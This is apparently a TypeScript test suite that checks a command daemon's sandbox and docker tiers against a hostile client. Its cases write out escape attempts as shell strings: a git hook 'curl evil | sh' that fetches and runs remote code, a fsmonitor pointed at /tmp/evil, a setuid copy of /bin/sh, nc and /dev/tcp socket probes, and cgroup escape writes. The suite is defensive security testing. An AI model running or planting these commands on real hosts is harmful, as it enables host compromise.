/**
 * Issue 10, isolation: what a hostile client did to the isolated tiers, and
 * what must stop it. Every case runs on both isolated tiers (sandbox and
 * docker) against a real daemon: workspaces only inside the operator's roots,
 * no socket outside the sandbox without network, no code planted for the
 * host, no setuid-root file left behind, a workspace given without a
 * working_dir is where the session starts.
 */
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import * as fs from 'node:fs';
import * as net from 'node:net';
import * as os from 'node:os';
import * as path from 'node:path';
import { after, before, describe, it } from 'node:test';
import { removeWorkspace, startTierDaemon, tierWorkspace, WORKSPACE_UID, type TierDaemon, type TierName } from './helpers/tiers.js';
import { expectCode } from './helpers/client.js';

const ISOLATED: TierName[] = ['sandbox', 'docker'];

// The tiers side by side (each has a daemon and directories of its own), the tests of a tier one after the other.
describe('isolation against a hostile client on every isolated tier', { concurrency: true }, () => {
  for (const tier of ISOLATED) {
    describe(`isolation against a hostile client: ${tier} tier`, { concurrency: 1 }, () => {
      let t: TierDaemon;
      let root: string;
      const made: string[] = [];

      before(async () => {
        // One root of the operator's: a directory of project workspaces.
        root = fs.realpathSync(fs.mkdtempSync(path.join(os.tmpdir(), 'trl-roots-')));
        fs.chmodSync(root, 0o755);
        const ws = path.join(root, 'default');
        fs.mkdirSync(ws);
        if (process.getuid?.() === 0) fs.chownSync(ws, WORKSPACE_UID, WORKSPACE_UID);
        t = await startTierDaemon(tier, { flags: ['--workspace-roots', root, '--default-working-dir', ws] });
      });
      after(async () => {
        await t?.close();
        for (const d of made) removeWorkspace(d);
        if (root) removeWorkspace(root);
      });

      /** A fresh project directory under the root, owned by the workspace user. */
      const project = (name: string): string => {
        const dir = path.join(root, name);
        fs.mkdirSync(dir, { recursive: true });
        if (process.getuid?.() === 0) execFileSync('chown', ['-R', `${WORKSPACE_UID}:${WORKSPACE_UID}`, dir]);
        return dir;
      };
      const run = async (session_id: string, command: string) => t.client!.call('exec.run', { session_id, command, timeout_s: 30 });
      const create = async (params: Record<string, unknown>) => (await t.client!.call('session.create', params)) as any;
      const destroy = async (session_id: string) => t.client!.call('session.destroy', { session_id, force: true });

      it('refuses every system location, shared directory and daemon file as a workspace, naming the fix', async (ctx) => {
        if (t.skip(ctx)) return;
        const d = t.daemon!;
        const refused = ['/run', '/etc', '/root', '/usr/local/bin', '/var/lib/docker', '/proc/sys', '/tmp', '/', os.homedir(), path.dirname(d.socketPath), root];
        for (const ws of refused) {
          if (!fs.existsSync(ws)) continue;
          const e = await expectCode(t.client!, 'session.create', { workspace: ws }, 'INVALID_PARAMS');
          assert.match(e.message, /workspace|working_dir/, `${ws}: ${e.message}`);
          assert.match(e.message, /pass|root/, `${ws}: the message names the fix: ${e.message}`);
        }
        // The same through working_dir alone (it becomes the workspace).
        await expectCode(t.client!, 'session.create', { working_dir: '/etc' }, 'INVALID_PARAMS');
        // A directory outside the roots, and one whose name only starts like the root (a prefix sibling).
        const outside = tierWorkspace('trl-outside-');
        made.push(outside);
        const sibling = `${root}-evil`;
        fs.mkdirSync(sibling);
        made.push(sibling);
        for (const ws of [outside, sibling]) {
          const e = await expectCode(t.client!, 'session.create', { workspace: ws }, 'INVALID_PARAMS');
          assert.match(e.message, /outside the workspace roots/, e.message);
          assert.match(e.message, /--workspace-roots/, e.message);
        }
      });

      it('resolves symlinks before deciding: a link inside a root to /etc or /run is refused', async (ctx) => {
        if (t.skip(ctx)) return;
        for (const [name, target] of [
          ['to-etc', '/etc'],
          ['to-run', '/run'],
          ['to-outside', os.tmpdir()],
        ] as const) {
          const link = path.join(root, name);
          fs.symlinkSync(target, link);
          const e = await expectCode(t.client!, 'session.create', { workspace: link }, 'INVALID_PARAMS');
          assert.match(e.message, new RegExp(`resolves to ${fs.realpathSync(target).replace(/[/.]/g, '\\$&')}`), e.message);
        }
      });

      it('starts in the workspace when given one without a working_dir, and reports its real path', async (ctx) => {
        if (t.skip(ctx)) return;
        const ws = project('starts-here');
        const link = path.join(root, 'link-to-starts-here');
        fs.symlinkSync(ws, link);
        const s = await create({ workspace: link });
        assert.equal(s.workspace, ws);
        assert.equal(s.working_dir, ws);
        const r = await run(s.session_id, 'pwd');
        assert.equal(r.stdout.trim(), ws);
        await destroy(s.session_id);
      });

      it('runs commands as an unprivileged user, who can leave no setuid- or setgid-root file', async (ctx) => {
        if (t.skip(ctx)) return;
        const ws = project('setuid');
        const s = await create({ workspace: ws });
        const r = await run(s.session_id, 'id -u; id -g; cp /bin/sh ./suid; chmod 6755 ./suid; chmod 6755 /bin/sh 2>/dev/null; echo done');
        const [uid, gid] = r.stdout.split('\n');
        assert.notEqual(uid, '0', 'commands never run as root');
        assert.notEqual(gid, '0', 'nor as group root');
        await destroy(s.session_id);
        const planted = path.join(ws, 'suid');
        if (fs.existsSync(planted)) {
          const st = fs.statSync(planted);
          const setuidRoot = (st.mode & 0o4000) !== 0 && st.uid === 0;
          const setgidRoot = (st.mode & 0o2000) !== 0 && st.gid === 0;
          assert.ok(!setuidRoot && !setgidRoot, `a setuid/setgid-root file was left: mode ${st.mode.toString(8)} owner ${st.uid}:${st.gid}`);
        }
      });

      it('with network: false reaches no socket outside: a Unix socket in the workspace, the host loopback, an abstract socket', async (ctx) => {
        if (t.skip(ctx)) return;
        const ws = project('sockets');
        const sockPath = path.join(ws, 'host.sock');
        const accepted: string[] = [];
        const unix = net.createServer((c) => {
          accepted.push('unix');
          c.end('hello-unix\n');
        });
        await new Promise<void>((r) => unix.listen(sockPath, r));
        fs.chmodSync(sockPath, 0o777);
        const tcp = net.createServer((c) => {
          accepted.push('tcp');
          c.end('hello-tcp\n');
        });
        await new Promise<void>((r) => tcp.listen(0, '127.0.0.1', r));
        const port = (tcp.address() as net.AddressInfo).port;
        const abstract = net.createServer((c) => {
          accepted.push('abstract');
          c.end('hello-abstract\n');
        });
        const abstractName = `\0trl-test-${process.pid}-${tier}`;
        await new Promise<void>((r) => abstract.listen(abstractName, r));
        try {
          const s = await create({ workspace: ws });
          // busybox nc (docker) and the host's tools (sandbox) both have `nc`; fall back to a shell probe.
          const probe = [
            `(nc -U ${sockPath} </dev/null || socat - UNIX-CONNECT:${sockPath} || cat ${sockPath}) 2>&1`,
            `(nc -w 2 127.0.0.1 ${port} </dev/null || (exec 3<>/dev/tcp/127.0.0.1/${port} && cat <&3)) 2>&1`,
            `echo probe-done`,
          ].join('; ');
          const r = await run(s.session_id, probe);
          assert.ok(!r.stdout.includes('hello-unix'), `the Unix socket in the workspace answered: ${r.stdout}`);
          assert.ok(!r.stdout.includes('hello-tcp'), `the host loopback answered: ${r.stdout}`);
          assert.match(r.stdout, /probe-done/);
          if (tier === 'sandbox') {
            // perl is on every Debian host and inside the sandbox (read-only /usr): probe socket() itself and the abstract namespace.
            const p = await run(
              s.session_id,
              `perl -e 'socket(S,1,1,0) or print "unix-socket: $!\\n"; use Socket; socket(T,AF_UNIX,SOCK_STREAM,0) and (connect(T, pack_sockaddr_un("\\0${abstractName.slice(1)}")) or print "abstract: $!\\n")'`,
            );
            assert.match(p.stdout, /unix-socket: Operation not permitted/, p.stdout + p.stderr);
          }
          await destroy(s.session_id);
          assert.deepEqual(accepted, [], 'no listener outside the sandbox saw a connection');
          if (tier === 'sandbox') {
            // With network: true the same socket is reachable: the filter follows the session's network setting.
            const open = await create({ workspace: ws, network: true });
            const r2 = await run(
              open.session_id,
              `perl -e 'use Socket; socket(S,AF_UNIX,SOCK_STREAM,0) or die "socket: $!"; connect(S, pack_sockaddr_un("${sockPath}")) or die "connect: $!"; print scalar <S>'`,
            );
            assert.equal(r2.stdout, 'hello-unix\n', r2.stderr);
            await destroy(open.session_id);
          }
        } finally {
          unix.close();
          tcp.close();
          abstract.close();
        }
      });

      it("has no access to the host's kernel keyrings", async (ctx) => {
        if (t.skip(ctx)) return;
        const s = await create({ workspace: project('keys') });
        // The filter is in place in every command (seccomp mode 2, no new privileges).
        const r = await run(s.session_id, "grep -E '^(Seccomp|NoNewPrivs):' /proc/self/status");
        assert.match(r.stdout, /Seccomp:\s+2/);
        assert.match(r.stdout, /NoNewPrivs:\s+1/);
        if (tier === 'sandbox') {
          // keyctl(KEYCTL_GET_KEYRING_ID, KEY_SPEC_USER_KEYRING, 1): x86_64 250, aarch64 219.
          const nr = process.arch === 'arm64' ? 219 : 250;
          const k = await run(s.session_id, `perl -e '$r = syscall(${nr}, 0, -4, 1, 0, 0); print $r < 0 ? "keyctl: $!\\n" : "key $r\\n"'`);
          assert.equal(k.stdout, 'keyctl: Operation not permitted\n', k.stderr);
        }
        await destroy(s.session_id);
      });

      it('cannot plant code for the host: git config and hooks, a renamed .git, new shell rc and .envrc files', async (ctx) => {
        if (t.skip(ctx)) return;
        const ws = project('planted');
        fs.mkdirSync(path.join(ws, '.git', 'hooks'), { recursive: true });
        fs.writeFileSync(path.join(ws, '.git', 'config'), '[core]\n\trepositoryformatversion = 0\n');
        fs.writeFileSync(path.join(ws, '.git', 'HEAD'), 'ref: refs/heads/main\n');
        fs.writeFileSync(path.join(ws, '.profile'), '# mine\n');
        if (process.getuid?.() === 0) execFileSync('chown', ['-R', `${WORKSPACE_UID}:${WORKSPACE_UID}`, ws]);
        const before = fs.readdirSync(ws).sort();
        const s = await create({ workspace: ws });
        const attempts: Record<string, string> = {
          fsmonitor: 'printf "[core]\\n\\tfsmonitor = /tmp/evil\\n" >> .git/config',
          hooksPath: 'printf "\\thooksPath = /tmp/hooks\\n" >> .git/config',
          hook: 'echo "curl evil | sh" > .git/hooks/post-checkout',
          renameGit: 'mv .git .git-old',
          removeGit: 'rm -rf .git',
          profile: 'echo evil >> .profile',
          bashrc: 'echo evil > .bashrc',
          envrc: 'echo evil > .envrc',
          zshrc: 'echo evil > .zshrc',
        };
        for (const [name, cmd] of Object.entries(attempts)) {
          const r = await run(s.session_id, `${cmd} 2>&1; echo "exit=$?"`);
          assert.doesNotMatch(r.stdout, /exit=0$/m, `${name} worked: ${r.stdout}`);
        }
        assert.equal((await run(s.session_id, 'echo fine > notes.txt && cat notes.txt')).stdout, 'fine\n', 'the rest of the workspace stays writable');
        assert.equal((await run(s.session_id, 'echo x > .git/other && echo ok')).stdout, 'ok\n', 'the rest of .git stays writable');
        await destroy(s.session_id);
        assert.equal(fs.readFileSync(path.join(ws, '.git', 'config'), 'utf8'), '[core]\n\trepositoryformatversion = 0\n');
        assert.equal(fs.readFileSync(path.join(ws, '.profile'), 'utf8'), '# mine\n');
        assert.deepEqual(fs.readdirSync(path.join(ws, '.git', 'hooks')), []);
        // The empty directories that kept .bashrc and .envrc from being created are gone with the session.
        assert.deepEqual(fs.readdirSync(ws).sort(), [...before, 'notes.txt'].sort());
      });

      it('cannot create a .git where there was none (a new repository would run its fsmonitor on the host)', async (ctx) => {
        if (t.skip(ctx)) return;
        const ws = project('no-repo');
        const s = await create({ workspace: ws });
        const r = await run(s.session_id, 'mkdir -p .git/hooks 2>&1; echo "exit=$?"');
        assert.doesNotMatch(r.stdout, /exit=0$/m, r.stdout);
        await destroy(s.session_id);
        assert.deepEqual(fs.readdirSync(ws), [], 'nothing is left in the workspace');
      });

      it('keeps its guard when another session of the same workspace ends (ghosts are shared, not mistaken for files)', async (ctx) => {
        if (t.skip(ctx)) return;
        const ws = project('shared-ghosts');
        const first = await create({ workspace: ws });
        const second = await create({ workspace: ws });
        await destroy(first.session_id);
        const r = await run(second.session_id, 'mkdir -p .git/hooks 2>&1; echo "git=$?"; echo x > .bashrc 2>&1; echo "rc=$?"; touch .envrc 2>&1; echo "envrc=$?"');
        assert.doesNotMatch(r.stdout, /git=0$/m, r.stdout);
        assert.doesNotMatch(r.stdout, /rc=0$/m, r.stdout);
        assert.doesNotMatch(r.stdout, /envrc=0$/m, r.stdout);
        await destroy(second.session_id);
        assert.deepEqual(fs.readdirSync(ws), [], 'nothing is left in the workspace');
      });

      // The sandbox's commands enter it from the host side (docker's are execs: nothing of theirs runs outside).
      if (tier === 'sandbox')
        it("gives the caller's loader variables (LD_PRELOAD, LD_DEBUG) to the command only, never to what runs outside the sandbox", async (ctx) => {
          if (t.skip(ctx)) return;
          // LD_DEBUG=files makes every dynamically linked program that gets it name itself on stderr.
          const s = await create({ workspace: project('loader'), env: { LD_DEBUG: 'files' } });
          const r = await run(s.session_id, 'true');
          assert.equal(r.exit_code, 0);
          for (const outside of ['nsenter', 'setpriv', 'bwrap', 'perl']) {
            assert.doesNotMatch(r.stderr, new RegExp(`needed by \\S*${outside}`), `${outside} ran with the caller's LD_DEBUG:\n${r.stderr.slice(0, 2000)}`);
          }
          assert.match(r.stderr + (await run(s.session_id, 'sh -c true')).stderr, /needed by|calling init/, 'the command itself gets it');
          await destroy(s.session_id);
        });

      it('cannot leave its cgroup, nor see the cgroup hierarchy', async (ctx) => {
        if (t.skip(ctx)) return;
        const s = await create({ workspace: project('cgroup') });
        const r = await run(
          s.session_id,
          'for f in /sys/fs/cgroup/cgroup.procs /sys/fs/cgroup/unified/cgroup.procs /sys/fs/cgroup/pids/cgroup.procs; do echo $$ > $f 2>/dev/null && echo "moved via $f"; done; echo checked',
        );
        assert.doesNotMatch(r.stdout, /moved via/, r.stdout);
        await destroy(s.session_id);
      });
    });
  }
});
